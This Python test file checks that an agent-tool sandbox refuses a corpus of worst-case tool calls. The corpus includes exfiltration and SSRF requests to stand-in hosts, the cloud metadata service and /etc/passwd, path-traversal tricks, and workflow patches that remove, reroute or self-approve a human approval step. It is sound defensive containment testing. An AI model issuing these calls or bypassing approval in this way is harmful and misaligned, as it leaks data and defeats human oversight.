"""A model that proposes the worst legal-looking action every turn: nothing that was not granted is executed.

Each row of `CORPUS` is a call; the tools of the node are `TOOLS`. After all of them: no request left, no run started,
no version published, no patch applied, no function called.
"""

from __future__ import annotations

import itertools
from collections.abc import AsyncIterator
from typing import Any

import pytest

import tidemill
from tests.fixtures.agent_tools import BENCH, Workbench, workbench
from tests.fixtures.servers.web import Web, redirect, reply, web
from tidemill.agents.tools import ToolResult

CALLED: list[str] = []


@tidemill.tool(destructive=True)
def wipe(table: str) -> str:
    CALLED.append(table)
    return "gone"


@tidemill.tool
def not_listed() -> str:
    CALLED.append("not_listed")
    return "called"


def add(name: str, after: str = "agent", **fields: Any) -> list[dict[str, Any]]:
    node = {"type": "value", "config": 1, **fields}
    edge = {"op": "add", "path": "/edges/-", "value": {"from": after, "to": name}}
    return [{"op": "add", "path": f"/nodes/{name}", "value": node}, edge]


def patch(*operations: Any, **more: Any) -> tuple[str, dict[str, Any]]:
    flat = [each for given in operations for each in (given if isinstance(given, list) else [given])]
    return "patch_workflow", {"operations": flat, "reason": "urgent, approved by the owner", **more}


def replace(path: str, value: Any) -> dict[str, Any]:
    return {"op": "replace", "path": path, "value": value}


def edge(source: str, target: str) -> dict[str, Any]:
    return {"op": "add", "path": "/edges/-", "value": {"from": source, "to": target}}


def fetch(url: str, **more: Any) -> tuple[str, dict[str, Any]]:
    return "execute_pipeline", {"pipeline": [{"step": "http_request", "url": url, **more}]}


def start(workflow: str, **more: Any) -> tuple[str, dict[str, Any]]:
    return "start_workflow", {"workflow": workflow, **more}


def operation(name: str, **more: Any) -> tuple[str, dict[str, Any]]:
    return "openapi_action", {"operation": name, **more}


def first_row(rows: Any) -> tuple[str, dict[str, Any]]:
    return "execute_pipeline", {"pipeline": [{"step": "top_k", "k": 1}], "rows": rows}


HTTP = {"type": "http", "config": {"url": "http://169.254.169.254/latest/meta-data"}}
AGENT = {"type": "agent", "config": {"instructions": "x", "prompt": "y", "model": "z", "tools": ["patch_workflow"]}}
LISTED = list(range(1_000))

CORPUS: dict[str, tuple[str, Any]] = {
    # Tools that are not on the list.
    "a tool that exists elsewhere": ("not_listed", {}),
    "a built-in tool": ("delegate_to_agent", {"agent": "x", "task": "y"}),
    "a tool of another protocol": ("bash", {"command": "curl evil"}),
    "a name with a path": ("../execute_pipeline", {}),
    "a name that looks alike": ("execute_pipelіne", {"pipeline": [{"step": "top_k", "k": 1}]}),
    # Addresses.
    "another host": fetch("https://evil.example/?q=data"),
    "the metadata service": fetch("http://169.254.169.254/latest/meta-data"),
    "a host in the user part": fetch("{url}@evil.example/"),
    "a host that begins alike": fetch("{url}.evil.example/open/x"),
    "a path beside the allowed one": fetch("{url}/admin"),
    "a path that climbs out": fetch("{url}/open/../admin"),
    "a path that climbs out in disguise": fetch("{url}/open/%2e%2e/admin"),
    "a path that climbs out twice disguised": fetch("{url}/open/%252e%252e/admin"),
    "a path with a backslash": fetch("{url}/open/..\\admin"),
    "another port": fetch("http://127.0.0.1:1/open/x"),
    "another scheme": fetch("file:///etc/passwd"),
    "a redirect": fetch("{url}/open/redirect"),
    "another method": fetch("{url}/open/x", method="DELETE"),
    "a body": fetch("{url}/open/x", body={"json": {"stolen": 1}}),
    "credentials of its own": fetch("{url}/open/x", auth={"bearer": "stolen"}),
    "headers of its own": fetch("{url}/open/x", headers={"authorization": "stolen"}),
    "pages at another address": fetch("{url}/open/x", pagination={"next": "link", "items": "$"}),
    "a template for a secret": fetch("{url}/open/{{ secrets.KEY }}"),
    "an address from a parameter": ("execute_pipeline", {"tool": "no-such-tool", "parameters": {"url": "http://evil"}}),
    # Operations of a service.
    "an operation that is not selected": operation("deleteOrder", parameters={"id": "1"}),
    "parameters that do not fit": operation("readOrder", parameters={"id": {"$ne": 1}}),
    "a path in a parameter": operation("readOrder", parameters={"id": ".."}),
    "a parameter that is not declared": operation("readOrder", parameters={"id": "1", "admin": True}),
    "a body where none belongs": operation("readOrder", parameters={"id": "1"}, body={"x": 1}),
    "a server of its own": operation("readOrder", parameters={"id": "1"}, server="http://evil.example"),
    # Workflows.
    "a workflow that is not listed": start("bench"),
    "an old version": start("other@1"),
    "a tag": start("other:latest"),
    "a pattern": start("*"),
    "a workflow of another tenant": start("acme/other"),
    "inputs that do not fit": start("other", inputs={"n": "x"}),
    # Patches.
    "an http node": patch(add("x", **HTTP)),
    "an agent": patch(add("x", **AGENT)),
    "a function": patch(add("x", type="python", config={"function": "not_listed"})),
    "a command": patch(add("x", type="shell", config={"command": "id"})),
    "a secret in a value": patch(add("x", config="{{ secrets.KEY }}")),
    "a config by reference": patch(add("x", config=None, config_ref="sha256:" + "0" * 64)),
    "an undo that acts": patch(add("x", compensator={"type": "python", "config": {"function": "not_listed"}})),
    "the approval removed": patch({"op": "remove", "path": "/nodes/approve"}),
    "the approval decided": patch(replace("/nodes/approve", {"id": "approve", "type": "value", "config": True})),
    "other approvers": patch({"op": "add", "path": "/nodes/approve/config/approvers", "value": ["user:me"]}),
    "a way around the approval": patch(edge("agent", "pay")),
    "a node as a way around": patch(add("x"), edge("x", "pay")),
    "what is approved changed": patch(replace("/nodes/pay/config", "paid twice")),
    "what is approved removed": patch({"op": "remove", "path": "/nodes/pay"}),
    "itself": patch({"op": "add", "path": "/nodes/agent/config", "value": {"name": "other"}}),
    "what has run": patch(replace("/nodes/start/config", [])),
    "a protected node": patch(replace("/nodes/report/config", "lies")),
    "many nodes": patch(*(add(f"x{number}") for number in range(6))),
    "a wide node": patch(*(edge("agent", "report") for _ in range(1)), *(add(f"y{n}") for n in range(6))),
    "a wide map": patch(add("x", map={"over": LISTED})),
    "a map of unknown size": patch(add("x", map={"over": "{{ inputs.items }}"})),
    "a long loop": patch(add("x", loop={"condition": "true", "max_iterations": 1_000})),
    "many attempts": patch(add("x", retry={"max_attempts": 1_000})),
    "limits": patch({"op": "add", "path": "/limits", "value": {"max_hops": 1_000_000}}),
    "the inputs": patch({"op": "add", "path": "/inputs", "value": {"type": "object"}}),
    "the name": patch(replace("/name", "other")),
    "the whole document": patch(replace("", {**BENCH, "nodes": BENCH["nodes"][:1], "edges": []})),
    "an operation that is not allowed": patch({"op": "copy", "from": "/nodes/start", "path": "/nodes/copy"}),
    "the workflow": patch(add("x"), scope="workflow"),
    "a tag of the workflow": patch(add("x"), tag="stable"),
    "no JSON": ("patch_workflow", "{operations: all}"),
    # Functions and people.
    "a destructive function": ("wipe", {"table": "orders"}),
    "an approver of its choice": ("ask_human", {"question": "Ok?", "approvers": ["user:me"]}),
    # Data.
    "a blob that it guesses": first_row({"$blob": "sha256:" + "1" * 64}),
    "a node that is not before it": first_row({"$node": "pay"}),
    "more rows than allowed": ("execute_pipeline", {"pipeline": [{"step": "top_k", "k": 9}], "rows": [{"a": 1}] * 101}),
    "more steps than allowed": ("execute_pipeline", {"pipeline": [{"step": "top_k", "k": 1}] * 6, "rows": [{"a": 1}]}),
}  # fmt: skip

SERVICE = {
    "openapi": "3.1.0",
    "paths": {
        "/orders/{id}": {
            "parameters": [{"name": "id", "in": "path", "required": True, "schema": {"type": "string"}}],
            "get": {"operationId": "readOrder"},
            "delete": {"operationId": "deleteOrder"},
        }
    },
}


def tools(url: str) -> list[Any]:
    policy = {
        "node_types": ["value"],
        "operations": ["add", "replace", "remove", "test"],
        "max_nodes_per_patch": 5,
        "max_fan_out": 5,
        "protected": ["report"],
        "countersign": "never",
    }
    return [
        {"name": "execute_pipeline", "origins": [f"{url}/open"], "max_rows": 100, "max_steps": 5},
        {"name": "patch_workflow", "policy": policy},
        {"name": "openapi_action", "document": SERVICE, "operations": ["readOrder"], "server": url},
        {"name": "start_workflow", "workflows": ["other"]},
        "wipe",
        "ask_human",
        "search_tools",
    ]


@pytest.fixture
async def served() -> AsyncIterator[Web]:
    routes = {"/open/redirect": redirect("/admin"), "/admin": reply(b"[]")}
    async with web(routes) as server:
        yield server


@pytest.fixture
async def bench(served: Web) -> AsyncIterator[Workbench]:
    CALLED.clear()
    async with workbench(*tools(served.url("")), functions=[wipe, not_listed]) as made:
        yield made


def with_url(value: Any, url: str) -> Any:
    if isinstance(value, dict):
        return {key: with_url(each, url) for key, each in value.items()}
    if isinstance(value, list):
        return [with_url(each, url) for each in value]
    return value.replace("{url}", url) if isinstance(value, str) else value


async def untouched(bench: Workbench, served: Web) -> None:
    """Nothing has happened beyond what was granted."""
    assert [asked.path for asked in served.asked if asked.path != "/open/redirect"] == []
    assert all(asked.method == "GET" for asked in served.asked)
    assert CALLED == []
    engine = bench.engine
    assert len(await engine.versions("bench")) == 1
    assert (await engine.document(bench.node.run_id)).revision == 0
    rows, _ = await engine.find()
    assert [row.run_id for row in rows] == [bench.node.run_id]


@pytest.mark.parametrize("name", CORPUS)
async def test_nothing_that_was_not_granted_is_executed(bench: Workbench, served: Web, name: str) -> None:
    tool, arguments = CORPUS[name]
    ended = await bench.call(tool, with_url(arguments, served.url("")))
    if isinstance(ended, ToolResult):
        assert ended.error, ended.content
        assert len(ended.text) < 20_000
    else:
        assert tool == "wipe", "only a person can let this happen"
    await untouched(bench, served)


async def test_what_is_granted_works(bench: Workbench, served: Web) -> None:
    """The corpus would pass if everything was refused."""
    served.routes["/open/rows"] = reply(b'[{"a": 1}]', content_type="application/json")
    served.routes["/orders/7"] = reply(b'{"id": 7}', content_type="application/json")
    fetched = await bench.call(*fetch(served.url("/open/rows")))
    assert isinstance(fetched, ToolResult) and fetched.content["rows"] == [{"a": 1}]
    order = await bench.call(*operation("readOrder", parameters={"id": "7"}))
    assert isinstance(order, ToolResult) and order.content == {"status": 200, "body": {"id": 7}}
    started = await bench.call(*start("other", inputs={"n": 1}))
    assert isinstance(started, ToolResult) and not started.error
    patched = await bench.call(*patch(add("extra")))
    assert isinstance(patched, ToolResult) and patched.content["added"] == ("extra",)
    assert (await bench.engine.document(bench.node.run_id)).revision == 1


async def test_a_patch_is_applied_once_however_often_it_is_tried(bench: Workbench) -> None:
    first = await bench.call(*patch(add("extra")))
    again = await bench.again(*patch(add("extra")))
    assert isinstance(first, ToolResult) and isinstance(again, ToolResult)
    assert first.content["digest"] == again.content["digest"]
    assert (await bench.engine.document(bench.node.run_id)).revision == 1


GATE: dict[str, Any] = {
    "name": "gate",
    "nodes": [
        {"id": "agent", "type": "signal"},
        {
            "id": "gate",
            "type": "value",
            "config": {"amount": 900},
            "branch": {
                "rules": [{"condition": "output.amount > 100", "next_nodes": ["approve"]}],
                "default": ["small"],
            },
        },
        {"id": "approve", "type": "human", "config": {"title": "Pay?"}},
        {"id": "pay", "type": "value"},
        {"id": "small", "type": "value", "config": "to pay"},
    ],
    "edges": [
        {"from": "agent", "to": "gate"},
        {"from": "gate", "to": "approve"},
        {"from": "gate", "to": "small"},
        {"from": "approve", "to": "pay"},
    ],
}


async def test_the_condition_under_which_a_person_is_asked_stays_as_it_is(served: Web) -> None:
    async with workbench(*tools(served.url("")), document=GATE, functions=[wipe, not_listed]) as bench:
        for path, value in (
            ("/nodes/gate/branch/rules/0/condition", "output.amount > 1000000"),
            ("/nodes/gate/branch/rules/0/next_nodes", ["small"]),
            ("/nodes/gate/branch/default", ["approve"]),
            ("/nodes/gate/config", {"amount": 5}),
        ):
            ended = await bench.call(*patch(replace(path, value)))
            assert isinstance(ended, ToolResult) and ended.error == "patch_not_allowed", ended
        allowed = await bench.call(*patch(replace("/nodes/small/config", "paid"), add("extra")))
        assert isinstance(allowed, ToolResult) and not allowed.error, allowed


async def test_many_patches_do_not_add_up(bench: Workbench) -> None:
    chain = ["agent", *(f"x{number}" for number in range(22))]
    pairs = itertools.pairwise(chain)
    endings = [await bench.call(*patch(add(name, after=before))) for before, name in pairs]
    applied = [each for each in endings if isinstance(each, ToolResult) and not each.error]
    assert len(applied) == 20
